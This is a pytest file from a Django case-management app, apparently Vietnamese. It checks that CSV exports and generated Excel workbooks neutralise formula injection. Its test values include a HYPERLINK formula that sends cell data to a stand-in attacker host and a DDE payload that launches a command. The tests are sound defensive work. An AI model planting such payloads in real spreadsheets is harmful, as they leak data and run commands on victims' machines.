"""Text from users and imported files reaches spreadsheet programs as text, never as a live
formula (OWASP CSV injection): the case list's CSV and the workbooks the app writes."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

from django.urls import reverse
from openpyxl import load_workbook

from congminh.apps.imports.services import error_workbook

EVIL = '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")'


def test_the_case_list_csv_neutralises_formulas(client: Any, users: dict[str, Any],
                                                 make_case: Callable[..., Any]) -> None:
    make_case(title=EVIL)
    make_case(title="@SUM(1+1)*cmd|' /C calc'!A0", number="02/2026/TLST-DS")
    make_case(title="Tranh chấp hợp đồng - Nguyễn Văn A", number="03/2026/TLST-DS")
    client.force_login(users["admin"])
    body = client.get(reverse("web:case_export")).content.decode("utf-8-sig")
    titles = {row[1] for row in list(csv.reader(io.StringIO(body)))[1:]}
    assert titles == {"'" + EVIL, "'@SUM(1+1)*cmd|' /C calc'!A0", "Tranh chấp hợp đồng - Nguyễn Văn A"}


def test_the_import_error_workbook_keeps_formulas_as_text() -> None:
    from congminh.apps.imports.parse import Parsed, Problem

    parsed = Parsed(headings=("Tên vụ việc",), rows={2: (EVIL,)})
    book = load_workbook(io.BytesIO(error_workbook(parsed, [Problem(2, "Tên vụ việc", "thiếu số")])))
    cell = book.worksheets[0].cell(row=2, column=2)
    assert cell.value == EVIL and cell.data_type == "s"


def test_the_board_workbook_keeps_task_texts_as_text() -> None:
    from openpyxl import Workbook

    from congminh.core.spreadsheets import xlsx_row

    book = Workbook()
    book.active.append(xlsx_row(book.active, [EVIL, "Kiểm tra", 3]))
    out = io.BytesIO()
    book.save(out)
    cells = list(load_workbook(io.BytesIO(out.getvalue())).active[1])
    assert [(c.value, c.data_type) for c in cells] == [(EVIL, "s"), ("Kiểm tra", "s"), (3, "n")]
